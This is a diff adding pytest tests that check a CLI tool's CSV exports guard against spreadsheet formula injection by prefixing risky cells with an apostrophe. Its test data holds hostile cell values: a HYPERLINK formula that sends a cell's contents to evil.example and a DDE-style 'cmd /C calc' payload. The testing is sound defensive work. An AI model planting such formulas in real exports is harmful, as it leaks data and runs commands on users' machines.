@@ -106,3 +106,74 @@ class TestCsv:
         buffer = io.StringIO()
         csv.writer(buffer).writerow([cell(value), cell(["x", "y"]), cell(None), cell(True)])
         assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [value, "x;y", "", "true"]
+
+
+#: Texts a spreadsheet would run (OWASP's list: = + - @, a tab or a carriage return first).
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)",
+            "-2+3+cmd|' /C calc'!A0", "+1+1"]
+
+
+@pytest.fixture
+def hostile(runner, sqlite_path):
+    """A platform named by a formula, blocked by an authority that is one, with a note and
+    a source title that are."""
+    name, title, authority, note = FORMULAS
+    for args in (
+            ("platform-registered", "evil", "--at", "2020-01-01", "--source", title,
+             "--name", name, "--target", "evil.example"),
+            ("blocked", "o-1", "--at", "2020-02-01", "--source", "https://example.org",
+             "--platform", "evil", "--authority", authority, "--target", "evil.example",
+             "--reason", "-r", "--note", note),
+            ("access-observed", "o-1", "--at", "2020-03-01", "--source", "https://example.org",
+             "--target", "evil.example", "--accessible", "--network", "\t=1+1")):
+        result = run(runner, sqlite_path, "record", *args)
+        assert result.exit_code == 0, result.output
+    return sqlite_path
+
+
+class TestSpreadsheetSafe:
+    """Every --format csv goes through one guarded writer: a cell that would start a
+    formula gets a leading apostrophe; JSON keeps the values as they are."""
+
+    @pytest.mark.parametrize("command", [("history",), ("history", "evil"), ("export",),
+                                         ("status",), ("status", "evil")], ids=" ".join)
+    def test_no_cell_starts_a_formula(self, runner, hostile, command):
+        fmt = ("--format", "csv")
+        text = run(runner, hostile, *command, *fmt).stdout
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        cells = [c for row in rows for c in row]
+        assert len(rows) > 1
+        assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
+        found = "\n".join(cells)
+        assert sum(f"'{formula}" in found for formula in FORMULAS) >= 2
+
+    def test_the_values_come_back_after_the_apostrophe(self, runner, hostile):
+        """history and status, read back with Python's csv: each hostile text is there
+        whole, after one apostrophe; the JSON has it bare."""
+        name, title, authority, note = FORMULAS
+        rows = list(csv.DictReader(io.StringIO(
+            run(runner, hostile, "history", "--format", "csv").stdout, newline="")))
+        by_type = {row["type"]: row for row in rows}
+        assert by_type["platform-registered"]["sources"] == "'" + title
+        assert by_type["blocked"]["note"] == "'" + note
+        assert by_type["blocked"]["summary"] == "'" + authority + " orders 1 target of evil " \
+            "blocked (-r)"
+        assert by_type["access-observed"]["summary"].startswith("evil.example observed")
+        [status] = list(csv.DictReader(io.StringIO(
+            run(runner, hostile, "status", "--format", "csv").stdout, newline="")))
+        assert status["name"] == "'" + name and status["authorities"] == "'" + authority
+        events = run_json(runner, hostile, "history")["events"]
+        assert {e["type"]: e for e in events}["blocked"]["note"] == note
+        assert run_json(runner, hostile, "status")[0]["name"] == name
+
+    def test_numbers_and_dates_are_left_as_they_are(self):
+        """Negative and signed numbers stay numbers; ISO times start with a digit; an
+        apostrophe already there gains nothing (guarding twice changes nothing)."""
+        from projections.formats import spreadsheet_safe
+
+        for value in ("-5", "+3.25", "-1e3", "-.5", "2017-07-14", "2017-07-14T11:00:00+07:00",
+                      "'=1+1", "", "plain", 5, None, True):
+            assert spreadsheet_safe(value) == value
+        for value in ("-", "- a dash", "-5 targets", "=1", "@x", "\t1", "\r1", "+x"):
+            assert spreadsheet_safe(value) == "'" + value
+            assert spreadsheet_safe(spreadsheet_safe(value)) == "'" + value
